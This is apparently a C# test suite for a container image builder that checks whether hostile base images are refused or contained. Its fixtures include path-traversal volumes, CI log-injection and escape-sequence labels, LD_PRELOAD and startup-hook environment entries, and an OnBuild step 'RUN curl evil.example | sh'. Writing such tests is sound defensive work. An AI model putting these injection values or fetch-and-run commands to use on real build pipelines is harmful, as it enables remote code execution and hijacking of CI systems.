using System.Text.Json;
using MsBuildKit.Engine.Content;
using MsBuildKit.Engine.Diagnostics;
using MsBuildKit.Engine.Exporters;
using MsBuildKit.Engine.Frontends.Project;
using MsBuildKit.Engine.Oci;
using MsBuildKit.Engine.Tests.Distribution;
using MsBuildKit.TestKit;
using MsBuildKit.TestKit.Archives;
using static MsBuildKit.Engine.Tests.TestImages;

namespace MsBuildKit.Engine.Tests.Builds;

/// <summary>Whole builds on bases that somebody made to reach, through us, what is not theirs.</summary>
public sealed class HostileBaseTests : IDisposable
{
    private static readonly byte[] s_users = new RawTar().File("etc/passwd", "app:x:7:8::/:\n").File("etc/group", "app:x:8:\n").ToArray();

    private readonly TempFolder _folder = new("hostile");
    private readonly Events _events = [];

    public void Dispose() => _folder.Dispose();

    // The drill 'archives' builds on all of them; these are one in eight.
    [Theory]
    [InlineData(Compression.None)]
    [InlineData(Compression.Gzip)]
    [InlineData(Compression.Zstd)]
    public async Task C1_C9_C11_Breakouts_AreCarriedByteForByteOrRefused(Compression compression)
    {
        var sentinel = new Sentinel(_folder["outside"]);
        foreach (var breakout in Breakouts.All(sentinel.Root).Where((_, i) => i % 8 == (int)compression))
        {
            HostileImage.Write(_folder["base"], breakout.Layers, compression);
            foreach (var user in new[] { null, "app" })
            {
                BuildResult? result = null;
                var error = await Record.ExceptionAsync(async () => result = await BuildAsync(c => c with { User = user }));
                Assert.True(error is null or BuildException, $"{breakout.Name}: {error}");
                if (result is null) continue;
                var image = await ResolveAsync(result);
                for (var i = 0; i < breakout.Layers.Count; i++)
                    Assert.Equal(Digest.Of(Packing.Pack(breakout.Layers[i], compression)), image.Document.Layers[i].Digest);
            }
        }
        Assert.True(sentinel.IsIntact);
    }

    [Theory]
    [InlineData("/../../../../../../etc")]
    [InlineData("../../etc")]
    [InlineData("/proc/self/root")]
    public async Task C14_VolumeOfTheBase_IsAWordAndCopiesNothing(string path)
    {
        WriteBase($"{{\"Volumes\":{{\"{path}\":{{}}}}}}");
        var result = await BuildAsync();
        var image = await ResolveAsync(result);
        Assert.Equal(2, image.Document.Layers.Count);
        Assert.Equal([path], image.Config.Config!.Volumes!.Keys);
    }

    [Theory]
    [InlineData("2147483648")]
    [InlineData("4294967295")]
    [InlineData("4294967296")]
    [InlineData("18446744073709551616")]
    [InlineData("1:4294967296")]
    [InlineData("-1")]
    [InlineData("1654:1:2")]
    public async Task D1_D2_UserOfTheBaseThatIsNoUser_IsRefused(string user)
    {
        WriteBase($$"""{"User":"{{user}}"}""");
        Assert.Equal("MBK2004", (await Assert.ThrowsAnyAsync<BuildException>(() => BuildAsync())).Code);
        WriteBase($$"""{"Env":["APP_UID={{user}}"]}""");
        Assert.Equal("MBK2004", (await Assert.ThrowsAnyAsync<BuildException>(() => BuildAsync())).Code);
    }

    // Everything that could be taken for an instruction to whoever builds.
    [Theory]
    [InlineData("io.containerd.runtime.log", "binary:///bin/sh?-c=true")]
    [InlineData("org.opencontainers.image.base.name", "127.0.0.1:1/evil:1")]
    [InlineData("org.opencontainers.image.base.digest", "sha256:../../x")]
    [InlineData("io.buildkit.cacheexport", "/etc")]
    [InlineData("msbuildkit.worker", "/bin/sh")]
    [InlineData("ContainerOutputDirectory", "/")]
    [InlineData("moby.buildkit.frontend.inputs", "local://")]
    [InlineData("x", "\n##vso[task.setvariable variable=x]y\n::set-output name=x::y\u001b]0;t\u0007")]
    public async Task D4_LabelOfTheBase_ChangesNothingThatWeDo(string label, string value)
    {
        WriteBase("{}");
        await BuildAsync();
        var layers = (await ResolveAsync(await BuildAsync())).Document.Layers;
        var before = Trace();
        WriteBase($$$"""{"Labels":{{{JsonSerializer.Serialize(new Dictionary<string, string> { [label] = value })}}}}""");
        var result = await BuildAsync();
        Assert.Equal(before, Trace());
        Assert.Equal(layers, (await ResolveAsync(result)).Document.Layers);
        Assert.All(_events.OfType<BuildMessage>(), m => Assert.DoesNotContain(m.Text, char.IsControl));
    }

    [Theory]
    [InlineData("org.opencontainers.image.base.name")]
    [InlineData("org.opencontainers.image.base.digest")]
    public async Task D4_WhatTheBaseSaysOfItsOwnBase_IsNotHandedOn(string label)
    {
        // A push of the layout would look there for layers.
        WriteBase($$$"""{"Labels":{"{{{label}}}":"evil.example/x:1"}}""");
        Assert.DoesNotContain("evil.example", (await BuildAsync()).Images[0].ConfigJson);
    }

    [Fact]
    public async Task D5_NamesThatTheBaseGivesItself_AreNotNamesOfOurs()
    {
        var manifest = WriteBase("{}");
        var annotated = manifest with
        {
            Annotations = new Dictionary<string, string>
            {
                [AnnotationKeys.RefName] = "latest", [AnnotationKeys.ContainerdImageName] = "docker.io/library/debian:latest", ["cdi.k8s.io/x"] = "vendor.example/device=all",
            },
        };
        File.WriteAllBytes(_folder["base/index.json"], OciJson.Write(new ImageIndex { Manifests = [annotated], Annotations = annotated.Annotations }));
        var result = await BuildAsync();
        Assert.Equal(["docker.io/team/shop:1.0"], result.Names);
        var text = File.ReadAllText(Path.Combine(result.LayoutDirectory, "index.json"));
        Assert.DoesNotContain("debian", text);
        Assert.DoesNotContain("cdi.k8s.io", text + result.Images[0].ManifestJson + result.Images[0].ConfigJson);
    }

    [Fact]
    public async Task D7_HundredThousandVariables_AreCarriedAndReachNoProgramOfTheMachine()
    {
        var marker = _folder["ran"];
        var library = _folder.Write("evil.so", "no library");
        var docker = _folder.Write("bin/docker", $"#!/bin/sh\nenv > {marker}\nexit 1\n");
        File.SetUnixFileMode(docker, UnixFileMode.UserRead | UnixFileMode.UserExecute);
        var environment = Enumerable.Range(0, 100_000).Select(i => $"V{i}=x").Append("PATH=").Append($"LD_PRELOAD={library}").Append("DOTNET_STARTUP_HOOKS=/evil.dll");
        WriteBase($$"""{"Env":{{JsonSerializer.Serialize(environment)}}}""");
        var services = new BuilderServices { Time = Services.Time, Registries = Services.Registries, Mirrors = Services.Mirrors, LocalEngines = new LocalEngineLoader([_folder["bin"]]) };
        await new Builder(services).BuildAsync(Request() with { Outputs = [new LocalEngineOutput(null)] }, _events, default);
        var seen = File.ReadAllText(marker);
        Assert.DoesNotContain("V1=x", seen);
        Assert.DoesNotContain(library, seen);
        Assert.DoesNotContain("/evil.dll", seen);
    }

    [Fact]
    public async Task D7_ConfigurationOfHundredMegabytes_IsRefused()
    {
        var environment = JsonSerializer.Serialize(new[] { "A=" + new string('x', 5 << 20) });
        WriteBase($$"""{"Env":{{environment}}}""");
        Assert.Equal("MBK1204", (await Assert.ThrowsAnyAsync<BuildException>(() => BuildAsync())).Code);
    }

    [Theory]
    [InlineData("OnBuild")]
    [InlineData("onbuild")]
    public async Task D8_StepsThatTheBaseWantsToRun_AreToldAndNotHandedOn(string key)
    {
        WriteBase($$"""{"{{key}}":["RUN curl evil.example | sh","COPY . /x"]}""");
        var result = await BuildAsync();
        var warning = Assert.Single(_events.OfType<BuildMessage>(), m => m.Level == MessageLevel.Warning);
        Assert.Equal("MBK1904", warning.Code);
        Assert.Contains("RUN curl evil.example | sh", warning.Text);
        Assert.DoesNotContain("curl", result.Images[0].ConfigJson);
    }

    [Theory]
    [InlineData("null")]
    [InlineData("[]")]
    public async Task D8_StepsThatAreNone_HarmNobody(string value)
    {
        WriteBase($$"""{"OnBuild":{{value}}}""");
        Assert.DoesNotContain("OnBuild", (await BuildAsync()).Images[0].ConfigJson);
    }

    // A Dockerfile would run them: what is no list of texts is refused, as Docker does, and guessed at by nobody.
    [Theory]
    [InlineData("OnBuild", "\"RUN x\"")]
    [InlineData("OnBuild", "[null]")]
    [InlineData("onbuild", "[5,{}]")]
    [InlineData("Shell", "\"/bin/sh\"")]
    [InlineData("Shell", "[null]")]
    public async Task D8_StepsOrShellThatAreNoTexts_AreRefused(string key, string value)
    {
        WriteBase($$"""{"{{key}}":{{value}}}""");
        Assert.Equal("MBK1104", (await Assert.ThrowsAnyAsync<BuildException>(() => BuildAsync())).Code);
    }

    [Fact]
    public async Task D4_EntrypointOfTheBase_IsOneShortLineInTheWarning()
    {
        WriteBase($$"""{"Entrypoint":["a\n##vso[x]\u001b[2J","{{new string('x', 100_000)}}"]}""");
        await BuildAsync();
        var warning = Assert.Single(_events.OfType<BuildMessage>(), m => m.Level == MessageLevel.Warning);
        Assert.DoesNotContain(warning.Text, char.IsControl);
        Assert.InRange(warning.Text.Length, 100, 5000);
    }

    [Fact]
    public async Task C6_LayerOfTheBaseThatIsNotItsDiffId_NeverDecidesWhoOwnsFiles()
    {
        var blob = HostileImage.Put(_folder["base"], MediaTypes.OciLayerGzip, Packing.Pack(s_users, Compression.Gzip));
        HostileImage.WriteWith(_folder["base"], [blob], $$$"""{"os":"linux","architecture":"amd64","rootfs":{"type":"layers","diff_ids":["{{{Digest.Of("other"u8)}}}"]}}""");
        Assert.Equal("MBK1502", (await Assert.ThrowsAnyAsync<BuildException>(() => BuildAsync(c => c with { User = "app" }))).Code);
    }

    [Fact]
    public async Task C15_BuildsOnBrokenAndGoodBasesAtOnce_AllEnd()
    {
        HostileImage.Write(_folder["good"], [s_users], Compression.Gzip);
        HostileImage.Write(_folder["broken"], [new RawTar().File("etc/passwd", "app:x:9:9::/:\n").ToArray()], Compression.Gzip);
        foreach (var blob in Directory.GetFiles(_folder["broken/blobs/sha256"]).Where(f => File.ReadAllBytes(f)[0] == 0x1f)) Content.TestStore.Damage(blob);
        var requests = Enumerable.Range(0, 32).Select(i => Request(c => c with { User = "app" }, i % 2 == 0 ? "broken" : "good") with { OutputDirectory = _folder[$"out{i}"] }).ToList();
        var errors = await Task.WhenAll(requests.Select(r => Task.Run(async () => await Record.ExceptionAsync(() => new Builder(Services).BuildAsync(r, null, default))))).WaitAsync(TimeSpan.FromSeconds(60));
        for (var i = 0; i < errors.Length; i++) Assert.True(i % 2 == 0 ? errors[i] is BuildException { Code: "MBK1201" } : errors[i] is null, $"{i}: {errors[i]}");
    }

    private Descriptor WriteBase(string config) => HostileImage.Write(_folder["base"], [s_users], Compression.Gzip, $"\"config\":{config}");

    private Task<BuildResult> BuildAsync(Func<ProjectImageConfig, ProjectImageConfig>? change = null)
    {
        _events.Clear();
        return new Builder(Services).BuildAsync(Request(change), _events, default);
    }

    private BuildRequest Request(Func<ProjectImageConfig, ProjectImageConfig>? change = null, string ground = "base")
    {
        var image = Image(new LocalBase(_folder[ground], null), new ProjectFile("/app/run", _folder.Write($"src/{ground}/run", "#!/bin/sh\n"), new Component(ComponentKind.Application, "Shop", "1.0")));
        return TestImages.Request(_folder.Path, change is null ? image : image with { Config = change(image.Config) });
    }

    private static Task<ResolvedImage> ResolveAsync(BuildResult result) => ImageResolution.ResolveAsync(new ImageLayout(result.LayoutDirectory), result.Image, Platform.LinuxAmd64, default);

    private List<string> Trace() => [.. _events.Select(e => e switch { StepStarted s => s.Name, StepCompleted s => s.Name, BuildMessage m => m.Text, _ => e.GetType().Name }).Where(n => n != nameof(StepProgress)).Distinct().Order(StringComparer.Ordinal)];
}
